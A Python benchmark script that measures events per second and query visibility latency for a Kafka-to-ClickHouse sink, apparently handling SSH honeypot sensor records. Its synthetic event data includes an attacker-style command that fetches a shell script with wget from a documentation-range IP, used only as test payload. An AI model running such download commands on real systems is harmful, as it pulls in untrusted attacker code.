"""Events of about 200 bytes through Kafka into ClickHouse over HTTP, by the sink's own process: events per second.

    .venv/bin/python -m bench.sink [--events 1000000] [--rounds 3] [--generated] [--profile FILE]

With --generated the events are those of `sojourn generate`: commands, logins, connection records and devices.
Starts an embedded broker and ClickHouse of its own. Each round publishes all events first, then starts a sink, so
that publishing does not compete for the processors; the clock runs from the sink's first stored row to its last.
Then single events at idle: milliseconds from publishing one until a query finds it.
"""

import argparse
import asyncio
import os
import random
import signal
import statistics
import subprocess
import sys
import tempfile
import time
import uuid
from pathlib import Path

import clickhouse_connect
import msgspec
from clickhouse_connect.driver import create_async_client

from producers.kafka.publisher import Publisher
from producers.load.generate import generate
from producers.load.mix import Tally, checked
from schemas.settings import Settings
from schemas.topics import EVENTS
from tests.stack import embedded_stack


def event_line(number: int, run: str) -> bytes:
    """One event as a sensor writes it: about 200 bytes."""
    return msgspec.json.encode(
        {
            "sensor": f"ssh-{number % 20}",
            "time": 1_795_000_000 + number / 1000,
            "kind": "command",
            "session_id": f"{run}{number // 8:08x}",
            "protocol": "ssh",
            "client_ip": f"203.0.{number % 250}.{number % 199}",
            "client_port": 1024 + number % 60_000,
            "data": f"wget -q http://198.51.100.7/{number:08d}.sh",
        }
    )


async def publish_generated(settings: Settings, seed: int, count: int) -> int:
    """What `sojourn generate` would publish; each line is one event. Returns their mean size."""
    size = 0
    async with Publisher(settings.kafka, linger_ms=0) as publisher:
        for batch in generate(checked(seed=seed, records=count), Tally()):
            size += sum(len(one.line) for one in batch)
            sent = await publisher.send_all((one.topic, (one.key, one.line, ())) for one in batch)
            await asyncio.gather(*sent)
    return size // count


async def publish(settings: Settings, run: str, count: int) -> int:
    partitions = settings.kafka.partitions
    size = 0
    async with Publisher(settings.kafka, linger_ms=0) as publisher:
        for start in range(0, count, 20_000):
            lines = [event_line(number, run) for number in range(start, min(start + 20_000, count))]
            size += sum(map(len, lines))
            futures = []
            for partition in range(partitions):
                futures += await publisher.send_batch(
                    EVENTS, partition, [(None, line, ()) for line in lines[partition::partitions]]
                )
            await asyncio.gather(*futures)
    return size // count


def run_sink(settings: Settings, profile: str | None) -> "subprocess.Popen[bytes]":
    environment = {
        **os.environ,
        "SOJOURN_KAFKA_BOOTSTRAP": settings.kafka.bootstrap,
        "SOJOURN_CLICKHOUSE_URL": settings.clickhouse.url,
        "SOJOURN_CLICKHOUSE_WRITER_PASSWORD": settings.clickhouse.writer_password,
    }
    code = "import sys; from schemas.settings import load; from stream_processors.sink import run_sink; "
    body = "run_sink(load()[0])"
    if profile:
        body = f"import cProfile; cProfile.run({body!r}, {profile!r})"
    return subprocess.Popen([sys.executable, "-c", code + body], env=environment)


def measure(settings: Settings, count: int, profile: str | None, seed: int | None = None) -> tuple[float, float]:
    """Events per second from the first stored row to the last, and the sink's own processor seconds."""
    client = clickhouse_connect.get_client(
        dsn=settings.clickhouse.url, username="writer", password=settings.clickhouse.writer_password, database="sojourn"
    )
    client.command("TRUNCATE TABLE events")
    run = uuid.uuid4().hex[:8]
    publishing = publish(settings, run, count) if seed is None else publish_generated(settings, seed, count)
    size = asyncio.run(publishing)
    sink = run_sink(settings, profile)
    try:
        first = None
        before = 0
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline:
            stored = int(client.command("SELECT count() FROM events"))
            now = time.monotonic()
            if stored and first is None:
                first, before = now, stored
            if stored >= count:
                break
            # Each look costs ClickHouse 3 ms of a processor that the sink is measured on.
            time.sleep(0.1)
        else:
            raise TimeoutError(f"only {stored} of {count} events after 120 s")
        assert first is not None
        unique = int(client.command("SELECT uniqExact(_topic, _partition, _offset, _index) FROM events"))
        parts = int(client.command("SELECT countDistinct(ingested_at, _topic, _partition) FROM events"))
        seconds = now - first
        status = Path(f"/proc/{sink.pid}/status").read_text().splitlines()
        peak = int(next(line for line in status if line.startswith("VmHWM")).split()[1]) // 1024
        used = sum(float(Path(f"/proc/{sink.pid}/stat").read_text().split()[field]) for field in (13, 14)) / 100
        print(
            f"  {count} events of {size} bytes, {unique} distinct, {parts} blocks: "
            f"{(count - before) / seconds:,.0f}/s; "
            f"the sink used {used:.2f} s of a processor ({used / count * 1e6:.2f} µs per event) and {peak} MiB at most"
        )
        return (count - before) / seconds, used
    finally:
        sink.send_signal(signal.SIGTERM)
        sink.wait(10)


async def visible_after(settings: Settings, tries: int) -> list[float]:
    """Milliseconds from publishing one event until a query finds it, while nothing else goes on."""
    options = {"dsn": settings.clickhouse.url, "username": "writer", "password": settings.clickhouse.writer_password}
    client = await create_async_client(**options, database="sojourn", autogenerate_session_id=False)
    run = uuid.uuid4().hex[:8]
    found = []
    async with Publisher(settings.kafka, linger_ms=0) as publisher:
        for number in range(tries + 1):
            await asyncio.sleep(random.uniform(0.3, 0.6))
            began = time.monotonic()
            await (await publisher.send(EVENTS, str(number).encode(), event_line(8 * number, run)))
            query = "SELECT count() FROM events WHERE session_id = {s:String}"
            while (await client.query(query, parameters={"s": f"{run}{number:08x}"})).result_rows[0][0] == 0:
                if time.monotonic() - began > 20:
                    raise TimeoutError("the event did not become visible within 20 s")
                await asyncio.sleep(0.005)
            found.append((time.monotonic() - began) * 1000)
    await client.close()
    # The first try waits for the sink to join its group.
    return sorted(found[1:])


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--events", type=int, default=1_000_000)
    parser.add_argument("--rounds", type=int, default=3)
    parser.add_argument("--tries", type=int, default=30, help="single events at idle")
    parser.add_argument("--generated", action="store_true", help="the load of sojourn generate")
    parser.add_argument("--profile")
    options = parser.parse_args()
    rates = []
    for number in range(options.rounds):
        # A server of its own for each round: merges of the round before would count against the next.
        with tempfile.TemporaryDirectory(prefix="sojourn-bench-") as folder, embedded_stack(Path(folder)) as stack:
            print(f"round {number + 1}")
            seed = number if options.generated else None
            rates.append(measure(stack.settings, options.events, options.profile, seed)[0])
    if options.tries:
        with tempfile.TemporaryDirectory(prefix="sojourn-bench-") as folder, embedded_stack(Path(folder)) as stack:
            sink = run_sink(stack.settings, None)
            try:
                waits = asyncio.run(visible_after(stack.settings, options.tries))
            finally:
                sink.send_signal(signal.SIGTERM)
                sink.wait(10)
        late = waits[int(len(waits) * 0.95)]
        print(f"visible after {statistics.median(waits):.0f} ms (median), {late:.0f} ms (95th percentile) at idle")
    if not rates:
        return
    print(f"median {statistics.median(rates):,.0f} events/s")


if __name__ == "__main__":
    main()
